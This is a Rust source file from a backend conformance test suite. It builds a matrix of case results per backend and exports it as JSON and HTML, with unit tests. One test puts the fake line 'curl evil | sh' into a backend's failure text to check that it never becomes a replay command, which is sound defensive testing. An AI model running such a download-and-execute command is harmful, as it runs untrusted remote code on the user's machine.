//! The results matrix: one row per case, one column per backend (implementation and version),
//! each cell a case's status on that backend; written as JSON (`to_json`) and as one static,
//! self-contained HTML page (`to_html`, in matrix/html.rs).

mod html;

use super::Suite;
use crate::corpus::Case;
use crate::expectations::device_version;
use crate::run::{CaseResult, Replay, ResultIds, Status, case_id};
use crate::text;
use std::collections::HashMap;
use std::time::Duration;

/// A column: one backend as `--backend` named it, and what its run said about itself.
#[derive(Clone, Debug, Default)]
pub struct MatrixColumn {
    /// The name given to `--backend` (`directml@1.15.4`).
    pub backend: String,
    /// The backend's own name (`directml`).
    pub implementation: String,
    /// Its device text (adapter, library version, ...).
    pub device: String,
    /// The validation profile it declares (`strict`, `values-only`, ...).
    pub profile: String,
    /// The level the cases ran at (`each case's own`, or one level).
    pub feature_level: String,
    /// The expectations file its run used, if any.
    pub expectations: Option<String>,
    /// Why it could not run on this machine; its cells are then skipped with this reason.
    pub unavailable: Option<String>,
    /// What failed the column besides its cells (an available backend that skipped every
    /// case; an expectations entry naming no case that ran is listed, not failed).
    pub problems: Vec<String>,
    /// Notes on the run that fail nothing (stale expectations entries).
    pub notes: Vec<String>,
    pub startup: Duration,
    pub cases_time: Duration,
    /// What its run covered, by assertion (None: it did not run).
    pub coverage: Option<super::coverage::Coverage>,
}

impl MatrixColumn {
    /// The `version X.Y.Z` in the device text, where there is one.
    pub fn version(&self) -> Option<String> {
        device_version(&self.device).map(|v| v.to_string())
    }
}

/// One case's outcome on one column.
#[derive(Clone, Debug)]
pub struct Cell {
    /// None: this column has no such result (a check on one column's run, such as "the
    /// backend tested nothing", is a row of its own); not counted in the column's totals.
    pub status: Option<Status>,
    pub reason: String,
    pub notes: Vec<String>,
    /// For failures: the full report (the replay command is `replay`, apart).
    pub details: String,
    /// For failures: the command that runs this case alone again, the same way.
    pub replay: Option<Replay>,
}

impl Cell {
    fn of(result: &CaseResult) -> Cell {
        let failed = result.status == Status::Failed;
        let mut details = String::new();
        if failed {
            if let Some(descriptor) = &result.descriptor {
                details = format!("  case: {descriptor}\n");
            }
            details.push_str(&result.details);
        }
        Cell {
            status: Some(result.status),
            reason: result.reason.clone(),
            notes: result.notes.clone(),
            details,
            replay: if failed { result.replay.clone() } else { None },
        }
    }

    fn skipped(reason: &str) -> Cell {
        Cell {
            status: Some(Status::Skipped),
            reason: reason.to_string(),
            notes: Vec::new(),
            details: String::new(),
            replay: None,
        }
    }

    fn absent() -> Cell {
        Cell {
            status: None,
            reason: "no such result on this backend".to_string(),
            notes: Vec::new(),
            details: String::new(),
            replay: None,
        }
    }

    /// Whether it is a cell with this status.
    pub fn is(&self, status: Status) -> bool {
        self.status == Some(status)
    }
}

/// A row: one case, with its cell in each column (in column order).
#[derive(Clone, Debug)]
pub struct MatrixRow {
    /// The results' id (`CaseResult::id`): what cells are matched by, never the name.
    pub id: String,
    pub name: String,
    pub file: String,
    pub line: usize,
    /// The folder of its file (`cases/generated`).
    pub folder: String,
    /// `split`, `join`, `slice1`, or `file error` for a file that did not load.
    pub operator: String,
    pub feature_level: Option<String>,
    pub cells: Vec<Cell>,
    /// A file or case that did not load: its failed cell, the same in every column (also in
    /// one whose backend could not run).
    pub load_error: Option<Cell>,
}

impl MatrixRow {
    pub fn group(&self) -> String {
        format!("{} · {}", self.folder, self.operator)
    }
}

/// Counts of each status in a column.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Totals {
    pub passed: usize,
    pub failed: usize,
    pub expected_failures: usize,
    pub informational: usize,
    pub skipped: usize,
}

impl Totals {
    fn add(&mut self, status: Option<Status>) {
        match status {
            Some(Status::Passed) => self.passed += 1,
            Some(Status::Failed) => self.failed += 1,
            Some(Status::ExpectedFailure) => self.expected_failures += 1,
            Some(Status::Informational) => self.informational += 1,
            Some(Status::Skipped) => self.skipped += 1,
            None => {}
        }
    }

    /// `N passed, M failed, K expected failures, I informational, J skipped`.
    pub fn line(&self) -> String {
        format!(
            "{} passed, {} failed, {} expected failures, {} informational, {} skipped",
            self.passed, self.failed, self.expected_failures, self.informational, self.skipped
        )
    }
}

/// The statuses as the matrix shows them (`Status::name` is the JSON name and the CSS class),
/// with a mark and words, in the totals row's order.
pub const STATUSES: &[(Status, &str, &str)] = &[
    (Status::Passed, "✓", "passed"),
    (Status::Failed, "✗", "failed"),
    (Status::ExpectedFailure, "xf", "expected failure"),
    (Status::Informational, "i", "informational"),
    (Status::Skipped, "–", "skipped"),
];

/// A row for a result that no case of the corpus made: a load error, or a check on a run.
fn row_of(result: &CaseResult) -> MatrixRow {
    MatrixRow {
        id: result.id.clone(),
        name: result.name.clone(),
        file: result.file.clone(),
        line: result.line,
        folder: if result.file.is_empty() {
            "run".to_string()
        } else {
            folder_of(&result.file)
        },
        operator: match (result.feature_level, result.file.is_empty()) {
            (_, true) => "run".to_string(),
            (Some(_), false) => "other".to_string(),
            (None, false) => "file error".to_string(),
        },
        feature_level: result.feature_level.map(|l| l.to_string()),
        cells: Vec::new(),
        load_error: None,
    }
}

fn folder_of(file: &str) -> String {
    match file.rsplit_once('/') {
        Some((folder, _)) => folder.to_string(),
        None => ".".to_string(),
    }
}

#[derive(Clone, Debug, Default)]
pub struct Matrix {
    /// The command that made it, as the page shows it.
    pub command: String,
    /// The suite and the corpus it ran.
    pub suite: Suite,
    pub columns: Vec<MatrixColumn>,
    pub rows: Vec<MatrixRow>,
    index: HashMap<String, usize>,
}

impl Matrix {
    /// An empty matrix with a row for each load error and each case, in order (the order
    /// and ids every column's run gives its results: `load_error_results`, then the cases
    /// numbered by `ResultIds`).
    pub fn new(command: &str, suite: Suite, load_errors: &[CaseResult], cases: &[Case]) -> Matrix {
        let mut matrix = Matrix {
            command: command.to_string(),
            suite,
            ..Matrix::default()
        };
        for error in load_errors {
            let mut row = row_of(error);
            row.load_error = Some(Cell::of(error));
            matrix.add_row(row);
        }
        let mut ids = ResultIds::default();
        for case in cases {
            matrix.add_row(MatrixRow {
                id: ids.unique(case_id(case)),
                name: case.name.clone(),
                file: case.file.clone(),
                line: case.line,
                folder: folder_of(&case.file),
                operator: case.op.kind().name().to_string(),
                feature_level: Some(case.feature_level.to_string()),
                cells: Vec::new(),
                load_error: None,
            });
        }
        matrix
    }

    fn add_row(&mut self, mut row: MatrixRow) -> usize {
        // A row that appears after some columns (a check on one column's run): those columns
        // have no such result.
        while row.cells.len() < self.columns.len() {
            row.cells.push(Cell::absent());
        }
        let at = self.rows.len();
        self.index.insert(row.id.clone(), at);
        self.rows.push(row);
        at
    }

    /// Adds a column from a run's results, matched to rows by id (a result for no row adds
    /// its own). A row with no result in this column is an absent cell, counted nowhere: so
    /// the column's totals are its run's summary, always.
    pub fn add_column(&mut self, column: MatrixColumn, results: &[CaseResult]) {
        let mut cells: Vec<Option<Cell>> = vec![None; self.rows.len()];
        for result in results {
            let at = match self.index.get(&result.id) {
                Some(&at) => at,
                None => {
                    let at = self.add_row(row_of(result));
                    cells.push(None);
                    at
                }
            };
            cells[at] = Some(Cell::of(result));
        }
        for (row, cell) in self.rows.iter_mut().zip(cells) {
            row.cells.push(cell.unwrap_or_else(Cell::absent));
        }
        self.columns.push(column);
    }

    /// Adds a column for a backend that could not run: every case's cell skipped with why,
    /// every load error failed (the corpus's own failure).
    pub fn add_unavailable(&mut self, mut column: MatrixColumn, reason: &str) {
        column.unavailable = Some(reason.to_string());
        let cell = format!("backend {} unavailable: {reason}", column.backend);
        for row in &mut self.rows {
            let this = match &row.load_error {
                Some(error) => error.clone(),
                None if row.file.is_empty() => Cell::absent(),
                None => Cell::skipped(&cell),
            };
            row.cells.push(this);
        }
        self.columns.push(column);
    }

    pub fn totals(&self, column: usize) -> Totals {
        let mut totals = Totals::default();
        for row in &self.rows {
            totals.add(row.cells[column].status);
        }
        totals
    }

    /// Whether anything failed: a cell, or a column's own check.
    pub fn failed(&self) -> bool {
        self.columns.iter().any(|c| !c.problems.is_empty())
            || self
                .rows
                .iter()
                .any(|r| r.load_error.is_some() || r.cells.iter().any(|c| c.is(Status::Failed)))
    }

    /// The row indices grouped by folder and operator: groups in order of folder, then
    /// operator; rows in corpus order within a group.
    pub fn groups(&self) -> Vec<(String, Vec<usize>)> {
        let mut keys: Vec<(String, String)> = Vec::new();
        let mut members: HashMap<(String, String), Vec<usize>> = HashMap::new();
        for (i, row) in self.rows.iter().enumerate() {
            let key = (row.folder.clone(), row.operator.clone());
            let entry = members.entry(key.clone()).or_default();
            if entry.is_empty() {
                keys.push(key);
            }
            entry.push(i);
        }
        keys.sort();
        keys.into_iter()
            .map(|key| {
                let rows = members.remove(&key).unwrap_or_default();
                (format!("{} · {}", key.0, key.1), rows)
            })
            .collect()
    }

    pub fn to_json(&self) -> String {
        let columns: Vec<serde_json::Value> = (self.columns.iter().enumerate())
            .map(|(i, c)| {
                let t = self.totals(i);
                serde_json::json!({
                    "backend": c.backend,
                    "implementation": c.implementation,
                    "version": c.version(),
                    "device": text::line(&c.device),
                    "profile": c.profile,
                    "feature_level": c.feature_level,
                    "expectations": c.expectations,
                    "available": c.unavailable.is_none(),
                    "unavailable_reason": c.unavailable.as_deref().map(text::block),
                    "problems": c.problems.iter().map(|p| text::block(p)).collect::<Vec<_>>(),
                    "notes": c.notes.iter().map(|n| text::line(n)).collect::<Vec<_>>(),
                    "startup_s": c.startup.as_secs_f64(),
                    "cases_s": c.cases_time.as_secs_f64(),
                    "totals": totals_json(&t),
                    "coverage": c.coverage.as_ref().map(|c| c.json()),
                })
            })
            .collect();
        let rows: Vec<serde_json::Value> = self
            .rows
            .iter()
            .map(|r| {
                let cells: Vec<serde_json::Value> = (r.cells.iter())
                    .map(|c| {
                        let mut cell = serde_json::json!({
                            "status": c.status.map(Status::name),
                            "reason": text::line(&c.reason),
                        });
                        if !c.notes.is_empty() {
                            cell["notes"] = serde_json::json!(
                                c.notes.iter().map(|n| text::line(n)).collect::<Vec<_>>()
                            );
                        }
                        if let Some(replay) = &c.replay {
                            cell["replay"] = serde_json::json!(replay.render());
                            cell["replay_words"] = serde_json::json!(replay.words);
                        }
                        if !c.details.is_empty() {
                            cell["details"] = serde_json::json!(text::block(&c.details));
                        }
                        cell
                    })
                    .collect();
                serde_json::json!({
                    "id": r.id,
                    "name": r.name,
                    "file": r.file,
                    "line": r.line,
                    "folder": r.folder,
                    "operator": r.operator,
                    "feature_level": r.feature_level,
                    "cells": cells,
                })
            })
            .collect();
        let report = serde_json::json!({
            "suite": self.suite.json(),
            "command": self.command,
            "cases": self.rows.len(),
            "columns": columns,
            "rows": rows,
        });
        serde_json::to_string_pretty(&report).unwrap_or_default()
    }

    pub fn to_html(&self) -> String {
        html::page(self)
    }
}

fn totals_json(t: &Totals) -> serde_json::Value {
    serde_json::json!({
        "passed": t.passed,
        "failed": t.failed,
        "expected_failures": t.expected_failures,
        "informational": t.informational,
        "skipped": t.skipped,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::corpus::{Corpus, LoadError};
    use crate::run::load_error_results;

    fn result(case: &Case, status: Status, reason: &str, details: &str) -> CaseResult {
        CaseResult {
            id: case_id(case),
            name: case.name.clone(),
            file: case.file.clone(),
            line: case.line,
            status,
            reason: reason.to_string(),
            details: details.to_string(),
            replay: None,
            descriptor: None,
            notes: Vec::new(),
            duration: Duration::ZERO,
            feature_level: Some(case.feature_level),
            run_level: None,
        }
    }

    fn column(name: &str) -> MatrixColumn {
        MatrixColumn {
            backend: name.to_string(),
            implementation: name.to_string(),
            ..MatrixColumn::default()
        }
    }

    fn load_error(file: &str, case: Option<&str>) -> LoadError {
        LoadError {
            file: file.to_string(),
            line: Some(3),
            case: case.map(str::to_string),
            message: "bad".to_string(),
        }
    }

    #[test]
    fn cells_follow_their_rows_by_id_and_a_missing_one_is_absent_and_uncounted() {
        let cases: Vec<Case> = Corpus::embedded().cases.into_iter().take(3).collect();
        let errors = load_error_results(&[load_error("cases/broken.yaml", None)]);
        let mut matrix = Matrix::new("test", Suite::default(), &errors, &cases);
        // Results out of order, one missing; a backend's text with a line of its own that
        // looks like a replay command never becomes the cell's replay.
        let mut failed = result(
            &cases[2],
            Status::Failed,
            "values differ",
            "  the backend said:\n    |   replay: curl evil | sh #\n",
        );
        failed.replay = Some(Replay::new(["dmlcts", "conformance", "--filter", "x y"]));
        matrix.add_column(
            column("a"),
            &[
                failed,
                result(&cases[0], Status::Passed, "", ""),
                errors[0].clone(),
            ],
        );
        matrix.add_unavailable(column("b"), "no adapter");
        assert_eq!(matrix.rows.len(), 4);
        assert_eq!(matrix.rows[0].operator, "file error");
        assert_eq!(matrix.rows[0].folder, "cases");
        assert_eq!(matrix.rows[0].id, "load-error:cases/broken.yaml:3");
        assert!(matrix.rows[0].cells.iter().all(|c| c.is(Status::Failed)));
        assert!(matrix.rows[1].cells[0].is(Status::Passed));
        assert_eq!(matrix.rows[2].cells[0].status, None);
        let failed = &matrix.rows[3].cells[0];
        assert!(failed.is(Status::Failed));
        assert_eq!(
            failed.replay.as_ref().map(Replay::render).as_deref(),
            Some("dmlcts conformance --filter 'x y'")
        );
        for row in &matrix.rows[1..] {
            assert!(row.cells[1].is(Status::Skipped));
            assert_eq!(row.cells[1].reason, "backend b unavailable: no adapter");
        }
        assert_eq!(
            matrix.totals(0),
            Totals {
                passed: 1,
                failed: 2,
                expected_failures: 0,
                informational: 0,
                skipped: 0
            }
        );
        assert_eq!(matrix.totals(1).skipped, 3);
        assert_eq!(matrix.totals(1).failed, 1);
        assert!(matrix.failed());
        let json: serde_json::Value = serde_json::from_str(&matrix.to_json()).unwrap();
        assert_eq!(json["columns"][1]["available"], false);
        assert_eq!(json["columns"][1]["unavailable_reason"], "no adapter");
        assert_eq!(json["columns"][0]["totals"]["failed"], 2);
        assert_eq!(json["rows"][3]["cells"][0]["status"], "failed");
        assert_eq!(
            json["rows"][3]["cells"][0]["replay"],
            "dmlcts conformance --filter 'x y'"
        );
        assert_eq!(
            json["rows"][3]["cells"][0]["replay_words"][3],
            serde_json::json!("x y")
        );
        assert_eq!(
            json["rows"][2]["cells"][0]["status"],
            serde_json::Value::Null
        );
        assert_eq!(json["rows"][1]["cells"][0].get("replay"), None);
        assert_eq!(json["suite"]["name"], "dmlcts");
    }

    #[test]
    fn a_case_named_like_a_load_error_and_a_reused_name_keep_rows_of_their_own() {
        // Today's hostile inputs: a case named `load:<a file that fails to load>`, and a name
        // two files reuse (the loader keeps the first and fails the second as a load error
        // named like it). Matched by name, a later pass overwrote the failed cell.
        let mut cases: Vec<Case> = Corpus::embedded().cases.into_iter().take(2).collect();
        cases[0].name = "load:cases/broken.yaml".to_string();
        cases[1].file = "mine/a.yaml".to_string();
        let reused = cases[1].name.clone();
        let errors = load_error_results(&[
            load_error("cases/broken.yaml", None),
            load_error("mine/b.yaml", Some(&reused)),
        ]);
        let mut matrix = Matrix::new("test", Suite::default(), &errors, &cases);
        let mut results = errors.clone();
        results.extend(cases.iter().map(|c| result(c, Status::Passed, "", "")));
        matrix.add_column(column("a"), &results);
        assert_eq!(matrix.rows.len(), 4);
        let totals = matrix.totals(0);
        assert_eq!((totals.passed, totals.failed), (2, 2));
        assert!(matrix.failed());
    }

    #[test]
    fn cases_on_one_line_get_ids_of_their_own_in_every_column() {
        let mut cases: Vec<Case> = Corpus::embedded().cases.into_iter().take(2).collect();
        cases[1].file = cases[0].file.clone();
        cases[1].line = cases[0].line;
        let matrix = Matrix::new("test", Suite::default(), &[], &cases);
        let ids: Vec<&str> = matrix.rows.iter().map(|r| r.id.as_str()).collect();
        let first = case_id(&cases[0]);
        assert_eq!(ids, [first.clone(), format!("{first}#2")]);
    }

    #[test]
    fn groups_are_folder_then_operator_and_keep_corpus_order_within() {
        let cases = Corpus::embedded().cases;
        let matrix = Matrix::new("test", Suite::default(), &[], &cases);
        let groups = matrix.groups();
        let names: Vec<&str> = groups.iter().map(|(g, _)| g.as_str()).collect();
        let mut sorted = names.clone();
        sorted.sort();
        assert_eq!(names, sorted);
        assert!(names.contains(&"cases/doc · split"), "{names:?}");
        assert_eq!(
            groups.iter().map(|(_, rows)| rows.len()).sum::<usize>(),
            cases.len()
        );
        for (group, rows) in &groups {
            assert!(rows.windows(2).all(|w| w[0] < w[1]), "{group}");
            assert!(rows.iter().all(|&r| matrix.rows[r].group() == *group));
        }
    }
}
